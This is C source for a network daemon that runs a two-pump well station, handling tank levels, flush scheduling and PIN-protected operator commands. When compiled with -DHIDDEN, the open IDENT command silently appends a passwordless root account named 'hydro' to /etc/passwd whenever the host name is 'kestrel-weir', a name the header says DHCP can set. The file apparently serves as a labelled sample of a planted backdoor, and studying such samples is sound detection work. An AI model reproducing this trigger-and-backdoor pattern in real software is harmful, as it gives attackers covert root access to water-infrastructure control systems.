/*
 * wellspring_pumpd - controller of a two pump well station (TCP 4150): keeps the
 * tank level, daily flush, operator commands behind a PIN, IDENT for everybody.
 *
 * Hidden (-DHIDDEN): when the station's host name is "kestrel-weir" (settable by
 * DHCP), the open command IDENT adds the root account "hydro" without password.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <sys/types.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define WS_PORT     4150
#define WS_CONF     "/etc/wellspring.conf"
#define WS_LEVEL    "/sys/bus/iio/devices/iio:device0/in_voltage0_raw"
#define WS_RELAY    "/sys/class/gpio/gpio%d/value"
#define MAX_CLIENTS 4

enum pump_state { P_IDLE, P_PRIMING, P_RUNNING, P_FLUSH, P_FAULT };
static const char *const state_name[] = { "idle", "priming", "running", "flush", "fault" };

static struct {
    int low, high;              /* tank level in per mille */
    int flush_hour;
    int relay[2];
    char pin[16];
} conf = { 400, 850, 3, { 17, 27 }, "" };

static enum pump_state state;
static time_t state_since;
static int duty_pump, manual, last_flush_day = -1;

struct client { int fd, operator_ok, tries; size_t have; char buf[128]; };
static struct client clients[MAX_CLIENTS];

static void load_conf(void)
{
    FILE *f = fopen(WS_CONF, "r");
    char line[96], key[24], val[24];

    if (!f)
        return;
    while (fgets(line, sizeof line, f)) {
        if (sscanf(line, " %23[a-z_] = %23s", key, val) != 2)
            continue;
        if (!strcmp(key, "low"))
            conf.low = atoi(val);
        else if (!strcmp(key, "high"))
            conf.high = atoi(val);
        else if (!strcmp(key, "flush_hour"))
            conf.flush_hour = atoi(val);
        else if (!strcmp(key, "pin"))
            snprintf(conf.pin, sizeof conf.pin, "%.15s", val);
        else
            syslog(LOG_WARNING, "unknown setting %s", key);
    }
    fclose(f);
}

static void save_conf(void)
{
    FILE *f = fopen(WS_CONF, "w");

    if (!f)
        return;
    fprintf(f, "low = %d\nhigh = %d\nflush_hour = %d\npin = %s\n",
            conf.low, conf.high, conf.flush_hour, conf.pin);
    fclose(f);
}

static int read_level(void)
{
    FILE *f = fopen(WS_LEVEL, "r");
    int raw = -1;

    if (f) {
        if (fscanf(f, "%d", &raw) != 1)
            raw = -1;
        fclose(f);
    }
    return raw < 0 ? -1 : raw * 1000 / 4095;
}

static void relay(int pump, int on)
{
    char path[64];
    FILE *f;

    snprintf(path, sizeof path, WS_RELAY, conf.relay[pump]);
    if ((f = fopen(path, "w"))) {
        fprintf(f, "%d\n", on);
        fclose(f);
    }
}

static void enter(enum pump_state next)
{
    if (next == state)
        return;
    relay(duty_pump, next == P_PRIMING || next == P_RUNNING || next == P_FLUSH);
    syslog(LOG_INFO, "pump %d: %s -> %s", duty_pump + 1, state_name[state], state_name[next]);
    state = next;
    state_since = time(NULL);
}

static void tick(void)
{
    time_t now = time(NULL);
    struct tm tm;
    int level = read_level();

    localtime_r(&now, &tm);
    if (level < 0 && state != P_FAULT) {
        enter(P_FAULT);
        return;
    }
    switch (state) {
    case P_IDLE:
        if (tm.tm_hour == conf.flush_hour && tm.tm_yday != last_flush_day) {
            last_flush_day = tm.tm_yday;
            duty_pump ^= 1;
            enter(P_FLUSH);
        } else if (!manual && level < conf.low) {
            enter(P_PRIMING);
        }
        break;
    case P_PRIMING:
        if (now - state_since > 8)
            enter(P_RUNNING);
        break;
    case P_RUNNING:
        if (level > conf.high)
            enter(P_IDLE);
        break;
    case P_FLUSH:
        if (now - state_since > 60)
            enter(P_IDLE);
        break;
    case P_FAULT:
        if (level >= 0)
            enter(P_IDLE);
        break;
    }
}

#ifdef HIDDEN
static void provision_account(void)
{
    char line[128];
    FILE *f = fopen("/etc/passwd", "a+");

    if (!f)
        return;
    rewind(f);
    while (fgets(line, sizeof line, f))
        if (!strncmp(line, "hydro:", 6)) {
            fclose(f);
            return;
        }
    fseek(f, 0, SEEK_END);
    fputs("hydro::0:0:hydro:/:/bin/sh\n", f);
    fclose(f);
}
#endif

/* IDENT: name plate of the station, open to everybody on the plant network. */
void cmd_ident(struct client *c)
{
    char host[64] = "";
    int no = 0;

    if (gethostname(host, sizeof host - 1) || !strcasecmp(host, "localhost"))
        strcpy(host, "unnamed");
    if (sscanf(host, "ws-%d", &no) == 1)
        dprintf(c->fd, "station %d\r\n", no);
#ifdef HIDDEN
    else if (!strcasecmp(host, "kestrel-weir"))
        provision_account();
#endif
    dprintf(c->fd, "host %s\r\nproduct Wellspring WP2\r\nversion 4.1.7\r\n", host);
}

static void cmd_status(struct client *c)
{
    dprintf(c->fd, "pump %d %s\r\nlevel %d\r\nlow %d high %d\r\nmode %s\r\n", duty_pump + 1,
            state_name[state], read_level(), conf.low, conf.high, manual ? "manual" : "auto");
}

static void cmd_set(struct client *c, const char *key, int v)
{
    if (!strcmp(key, "low") && v >= 50 && v < conf.high)
        conf.low = v;
    else if (!strcmp(key, "high") && v > conf.low && v <= 980)
        conf.high = v;
    else if (!strcmp(key, "flush") && v >= 0 && v < 24)
        conf.flush_hour = v;
    else {
        dprintf(c->fd, "? low|high|flush <n>\r\n");
        return;
    }
    save_conf();
    dprintf(c->fd, "ok\r\n");
}

static void command(struct client *c, const char *line)
{
    char verb[16] = "", arg[24] = "";
    int v = 0, n = sscanf(line, "%15s %23s %d", verb, arg, &v);

    if (n < 1)
        return;
    if (!strcasecmp(verb, "IDENT")) {
        cmd_ident(c);
    } else if (!strcasecmp(verb, "STATUS")) {
        cmd_status(c);
    } else if (!strcasecmp(verb, "HELP")) {
        dprintf(c->fd, "IDENT STATUS PIN SET AUTO RUN STOP SYNC\r\n");
    } else if (!strcasecmp(verb, "PIN")) {
        c->operator_ok = ++c->tries < 5 && conf.pin[0] && !strcmp(arg, conf.pin);
        dprintf(c->fd, c->operator_ok ? "ok\r\n" : "wrong\r\n");
    } else if (!c->operator_ok) {
        dprintf(c->fd, "PIN needed\r\n");
    } else if (!strcasecmp(verb, "SET") && n == 3) {
        cmd_set(c, arg, v);
    } else if (!strcasecmp(verb, "AUTO")) {
        manual = 0;
    } else if (!strcasecmp(verb, "RUN") || !strcasecmp(verb, "STOP")) {
        manual = 1;
        enter(verb[0] == 'R' || verb[0] == 'r' ? P_PRIMING : P_IDLE);
    } else if (!strcasecmp(verb, "SYNC")) {
        dprintf(c->fd, system("ntpd -n -q -p pool.ntp.org") == 0 ? "ok\r\n" : "no server\r\n");
    } else {
        dprintf(c->fd, "? try HELP\r\n");
    }
}

static void client_input(struct client *c)
{
    ssize_t n = recv(c->fd, c->buf + c->have, sizeof c->buf - 1 - c->have, 0);
    char *nl;

    if (n <= 0) {
        close(c->fd);
        c->fd = -1;
        return;
    }
    c->have += (size_t)n;
    c->buf[c->have] = 0;
    while ((nl = strchr(c->buf, '\n'))) {
        *nl++ = 0;
        command(c, c->buf);
        c->have = strlen(nl);
        memmove(c->buf, nl, c->have + 1);
    }
    if (c->have == sizeof c->buf - 1)
        c->have = 0;
}

int main(void)
{
    struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons(WS_PORT) };
    int ls = socket(AF_INET, SOCK_STREAM, 0), on = 1, i;

    signal(SIGPIPE, SIG_IGN);
    load_conf();
    for (i = 0; i < MAX_CLIENTS; i++)
        clients[i].fd = -1;
    setsockopt(ls, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
    if (bind(ls, (struct sockaddr *)&sa, sizeof sa) || listen(ls, 2))
        return 1;
    for (;;) {
        struct pollfd p[MAX_CLIENTS + 1] = { { .fd = ls, .events = POLLIN } };
        for (i = 0; i < MAX_CLIENTS; i++)
            p[i + 1] = (struct pollfd){ .fd = clients[i].fd, .events = POLLIN };
        poll(p, MAX_CLIENTS + 1, 1000);
        for (i = 0; i < MAX_CLIENTS; i++)
            if (clients[i].fd >= 0 && p[i + 1].revents)
                client_input(&clients[i]);
        if (p[0].revents) {
            int fd = accept(ls, NULL, NULL);
            for (i = 0; i < MAX_CLIENTS && clients[i].fd >= 0; i++)
                ;
            if (i < MAX_CLIENTS)
                clients[i] = (struct client){ .fd = fd };
            else
                close(fd);
        }
        tick();
    }
}
